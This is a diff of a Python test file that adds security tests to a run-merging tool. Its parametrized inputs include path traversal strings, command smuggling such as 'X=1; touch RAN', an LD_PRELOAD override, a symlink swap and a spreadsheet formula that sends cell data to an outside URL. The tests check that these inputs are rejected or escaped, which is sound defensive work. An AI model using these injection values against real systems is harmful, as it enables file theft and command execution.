@@ -12,8 +12,10 @@ from terminals import call
 
 import minifp as fp
 from minifp import lab
+from minifp.errors import DataError
 from minifp.lab.evaluation import evaluate
 from minifp.lab.results import store
+from minifp.report.csv_text import csv_text
 from minifp.saving import files
 
 BOTH = ("float32", "mixed")
@@ -43,7 +45,7 @@ def other(halves, tmp_path):
     return shutil.copytree(halves[1], tmp_path / "other")
 
 
-def changed(folder, precision="mixed", seed=1, **fields):
+def changed(folder, precision="mixed", seed=1, /, **fields):
     path = store.run_path(folder, precision, seed)
     held = json.loads(path.read_text(encoding="utf-8"))
     held["run"].update(fields)
@@ -104,6 +106,37 @@ def test_weights_and_kept_files_must_be_the_same_too_but_not_times(halves, other
         arrays = {**held, "weights": held["weights"] + 1}
     np.savez(path, **arrays)
     refuses(fp.ArgumentError, "weights and outputs, words differ", lab.merge, halves[0], other)
+
+
+@pytest.mark.parametrize("fields", [
+    {"kept": {"words": "../../mine.txt"}}, {"kept": {"words": "runs/mixed,seed=1.json"}},
+    {"precision": "../../../mine"}, {"precision": "--out=elsewhere"}, {"seed": "../2"}, {},
+    {"variables": {"X=1; touch RAN; Y": "1"}}, {"variables": {"LD_PRELOAD": "a.so"}},
+    {"task": "--out=elsewhere"}, {"commit": "x\ntouch RAN"},
+])  # fmt: skip
+def test_names_of_another_are_no_paths_and_no_text_of_a_shell(halves, other, tmp_path, fields):
+    (tmp_path / "mine.txt").write_text("mine", encoding="utf-8")
+    if not fields:  # a link in place of a file
+        place = other / "runs" / "mixed,seed=2" / "words.txt"
+        place.unlink()
+        place.symlink_to(tmp_path / "mine.txt")
+    elif {*fields} & {"variables", "task", "commit"}:
+        held = json.loads((other / "results.json").read_text(encoding="utf-8"))
+        held["origin"].update(fields)
+        (other / "results.json").write_text(json.dumps(held), encoding="utf-8")
+        fields = {}
+    with pytest.raises(DataError, match="the file was edited|expected a file in it|expected"):
+        lab.merge(halves[0], changed(other, "mixed", 2, **fields), out=tmp_path / "deep" / "whole")
+    assert not (tmp_path / "deep").exists()
+
+
+def test_no_text_of_another_is_a_formula_of_a_spreadsheet(halves, other, tmp_path):
+    changed(other, "mixed", 2, note='=LINK("http://e/?"&A1)', made={"@SUM(1+1)": "x"})
+    lab.merge(halves[0], other, out=tmp_path / "whole")
+    text = (tmp_path / "whole" / "runs.csv").read_text(encoding="utf-8")
+    assert ",\"'=LINK(" in text and ",'@SUM(1+1): x" in text
+    cells = ["+1", "-inf", -2.5, None, "\t=1", "-a", "a=b"]
+    assert csv_text([cells]) == "+1,-inf,-2.5,,'\t=1,'-a,a=b\n"
 
 
 def test_nothing_is_left_of_a_merge_that_fails(halves, tmp_path, monkeypatch):
